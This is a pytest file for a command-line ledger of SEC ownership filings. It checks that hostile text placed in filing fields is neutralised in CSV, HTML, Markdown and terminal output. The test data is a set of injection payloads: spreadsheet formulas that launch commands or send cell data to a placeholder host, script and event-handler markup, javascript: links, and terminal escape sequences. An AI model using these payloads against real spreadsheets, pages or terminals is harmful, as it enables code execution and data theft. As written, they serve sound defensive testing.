"""A stranger's words that would run somewhere, through every command and every format.

Each payload is the name of a company, of an owner, of a security, what officers are called, the
nature of a holding, a footnote, a remark, a signature and a symbol of one filing. No spreadsheet, no
page, no Markdown and no terminal gets to run one; programs get each as it was recorded.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from html.parser import HTMLParser
from itertools import product

import pytest
from click.testing import CliRunner

from cli.main import main
from ledger import Ledger
from ledger.filing import Footnote, Issuer, Owner, Signature
from tests.filings import filing, holding_row, row, statement
from tests.transcripts import ROOT

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?"&A1,"see")',
    "=IMPORTXML(CONCAT(A1),1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "－1+1",
    '";=1+1;"',
    "a;=1+1",
    "-1",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](javascript:alert(1))",
    "![x](http://a.example/x.png)",
    "| a | b |\n|---|---|",
    "</style><style>@import 'http://a.example'</style>",
    "`code` **bold** <!-- hidden -->",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u202eexe.fdp",
    "a\x08\x08b",
    "\u200bzero\ufeffwidth",
)
PAYLOADS = (*FORMULAS, *MARKUP, *TERMINAL)
COMMANDS = (
    *(
        "holdings",
        "history",
        "reconcile",
        "events",
        "stats",
        "verify",
        "replay",
        "seal",
        "ingest forms",
    ),
    *("show 0000000001-04-000001", "explain 0000000001-04-000001#I.1"),
    "diff --known-at 2004-01-01 --known-at 2004-12-31",
    "report --issuer 0000000101",
)
TIMED = ("replay", "ingest forms")
"""Commands that say how long they took, which is never the same twice."""

FORMATS = ("csv", "table", "html", "md", "json", "ndjson")
RUNS = re.compile(r"\s*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
ADDRESS = re.compile(
    r"https://www\.sec\.gov/Archives/edgar/data/[0-9]+/[0-9]{18}/[0-9-]{20}-index\.htm"
)
"""The only place to which a page leads: a filing on sec.gov, by digits alone."""
TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h2",
    "p",
    "pre",
    "table",
    "thead",
    "tr",
    "th",
    "td",
    *("h1", "h3", "a", "figure", "span", "div"),
}
DRAWN = {"svg", "desc", "defs", "pattern", "rect", "path", "g", "text"}
"""Tags of a chart, which has a title and a style as well."""
IN_CHARTS = {
    *("xmlns", "viewbox", "role", "aria-labelledby", "aria-label", "aria-hidden", "id", "class"),
    *("x", "y", "width", "height", "d", "fill", "text-anchor", "patternunits", "transform"),
}


def told(number, payload):
    """A filing in which a stranger says the payload wherever there is room for words."""
    owner = Owner(cik=f"{number + 10:010}", name=payload, officer=True, officer_title=payload)
    rows = (
        row(1, security=payload, nature=payload, ownership="indirect", cited={"shares": ("F1",)}),
        holding_row(
            2, security=payload, nature=payload, ownership="indirect", shares_after=Decimal(7)
        ),
    )
    return filing(
        number,
        rows=rows,
        issuer=Issuer(cik=f"{number + 100:010}", name=payload, symbol=payload),
        owners=(owner,),
        footnotes=(Footnote(id="F1", text=payload),),
        statements=(statement(end=min(6, len(payload))),),
        remarks=payload,
        signatures=(Signature(name=payload, signed_on=None),),
    )


@pytest.fixture(scope="module")
def ledger_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("payloads") / "ledger.db"
    with Ledger.open(path) as ledger:
        ledger.record(told(number, payload) for number, payload in enumerate(PAYLOADS, 1))
    return path


def asked(path, command, *options):
    """What a command prints; the ledger's folder holds a form whose name is a payload."""
    forms = path.parent / "=1+1"
    forms.mkdir(exist_ok=True)
    (forms / "=cmd.txt").write_text("no form", "utf-8")
    words = [str(forms) if word == "forms" else word for word in command.split()]
    done = CliRunner().invoke(
        main, [*words, *options, "--db", str(path)], env={"NO_COLOR": "1"}, prog_name="ledger"
    )
    assert done.exit_code in {0, 1, 3}, (command, done.stderr)
    return done.stdout


@pytest.fixture(scope="module")
def answers(ledger_path):
    """What every command prints in every format, and in CSV for programs."""
    found = {
        (command, kind): asked(ledger_path, command, "--format", kind)
        for command, kind in product(COMMANDS, FORMATS)
    }
    return found | {
        (command, "raw"): asked(ledger_path, command, "--format", "csv", "--csv-raw")
        for command in COMMANDS
    }


def cells(text):
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


class Page(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.leads, self.anchors = set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.leads |= {value.removeprefix("#") for name, value in attrs if name == "href"}
        self.anchors |= {value for name, value in attrs if name == "id"}


@pytest.mark.parametrize("command", COMMANDS)
def test_no_cell_of_a_csv_is_a_formula(answers, command):
    for cell in cells(answers[command, "csv"]):
        assert not RUNS.match(cell) or NUMBER.fullmatch(cell), repr(cell)
        assert cell.isprintable(), repr(cell)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_page_has_no_tags_but_our_own_and_loads_nothing(answers, command):
    page = Page(answers[command, "html"])

    assert page.tags <= TAGS | DRAWN
    assert {name for tag, name in page.attributes if tag not in DRAWN} <= {
        *("lang", "charset", "http-equiv", "name", "content", "class", "colspan", "id", "href"),
        *("rel", "data-as"),
    }
    assert {name for tag, name in page.attributes if tag in DRAWN} <= IN_CHARTS
    within = {name for name in page.leads if not ADDRESS.fullmatch(name)}
    assert within <= page.anchors
    charts = answers[command, "html"].count("<svg")
    assert answers[command, "html"].count("<style>") == 1 + charts


@pytest.mark.parametrize("command", COMMANDS)
def test_markdown_has_neither_tags_nor_links_nor_columns_of_a_strangers(answers, command):
    ours = re.sub(rf"\[([0-9-]{{20}})\]\({ADDRESS.pattern}\)", r"\1", answers[command, "md"])
    words = re.sub(r"\\.", "", ours).replace("<br>", "")
    marked = [line for line in words.splitlines() if not line.startswith("    ")]

    assert not re.search(r"<|\]\(|`|\*\*", "\n".join(marked))
    columns = 0
    for line in marked:
        columns = (columns or line.count("|")) if line.startswith("|") else 0
        assert line.count("|") == columns


@pytest.mark.parametrize(("command", "kind"), [*product(COMMANDS, FORMATS)])
def test_a_terminal_is_told_nothing_by_a_stranger(answers, command, kind):
    assert all(line.isprintable() for line in answers[command, kind].split("\n"))


def test_programs_get_every_text_as_it_was_recorded(answers):
    raw = {cell for command in COMMANDS for cell in cells(answers[command, "raw"])}

    assert set(PAYLOADS) <= raw


@pytest.mark.parametrize("command", COMMANDS)
def test_numbers_are_those_of_the_raw_form(answers, command):
    numbers = [
        [cell for cell in cells(answers[command, form]) if NUMBER.fullmatch(cell)]
        for form in ("csv", "raw")
    ]

    assert len(numbers[0]) == len(numbers[1]) - numbers[1].count("-1")
    if command not in TIMED:
        assert numbers[0] == [number for number in numbers[1] if number != "-1"]


def test_as_many_payloads_meet_as_many_outputs_as_the_docs_say(answers):
    page = (ROOT / "docs" / "reference" / "invariants.md").read_text("utf-8")
    said = f"{len(PAYLOADS)} payloads through {len(COMMANDS)} commands and {len(FORMATS)} formats"

    assert said in " ".join(page.split())
